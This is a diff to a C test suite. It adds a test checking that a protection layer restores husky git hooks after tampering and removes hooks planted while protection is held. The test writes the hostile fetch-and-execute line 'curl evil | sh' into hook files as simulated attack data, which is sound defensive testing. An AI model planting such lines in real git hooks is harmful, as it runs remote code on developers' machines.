@@ -43,6 +43,21 @@ exists(const char *rel)
 	return yes;
 }
 
+static const char *
+get_file(const char *path)
+{
+	static char data[4096];
+	FILE *f = fopen(path, "r");
+	size_t n;
+
+	if (f == NULL)
+		return NULL;
+	n = fread(data, 1, sizeof data - 1, f);
+	data[n] = '\0';
+	fclose(f);
+	return data;
+}
+
 static double
 ms_since(const struct timespec *t0)
 {
@@ -202,6 +217,39 @@ T_TEST(root_bare_and_gitfile)
 	done(p);
 }
 
+/* husky's .husky/ named by the root repository's core.hooksPath: its hooks are guarded. */
+T_TEST(hooks_path)
+{
+	struct protect *p = fresh();
+	char *f;
+	FILE *fp;
+
+	put(".git/HEAD", "ref: refs/heads/main\n", 21);
+	put(".git/config", "[core]\n\tbare = false\n\thooksPath = .husky\n", 41);
+	put(".husky/pre-commit", "npm test\n", 9);
+	protect_hold(p, false);
+	f = t_tree_at("/.husky/pre-commit");
+	fp = fopen(f, "w");
+	T_OK(fp != NULL);
+	if (fp != NULL) {
+		fputs("curl evil | sh\n", fp);
+		fclose(fp);
+	}
+	put(".husky/post-checkout", "curl evil | sh\n", 15);
+	protect_release(p, false);
+	T_EQ_STR(get_file(f), "npm test\n");
+	T_OK(!exists(".husky/post-checkout"));
+	T_EQ_INT(told, 1);
+	/* the user's own edit between commands is the one kept from then on */
+	put(".husky/pre-commit", "npm run lint\n", 13);
+	protect_hold(p, false);
+	put(".husky/post-merge", "x\n", 2);
+	protect_release(p, false);
+	T_EQ_STR(get_file(f), "npm run lint\n");
+	free(f);
+	done(p);
+}
+
 T_TEST(paused_writer)
 {
 	struct protect *p = fresh();
@@ -307,6 +355,7 @@ main(void)
 	T_RUN(created_and_existing);
 	T_RUN(moved_in_bare_and_again);
 	T_RUN(root_bare_and_gitfile);
+	T_RUN(hooks_path);
 	T_RUN(paused_writer);
 	T_RUN(lost_events);
 	T_RUN(cost_20k);
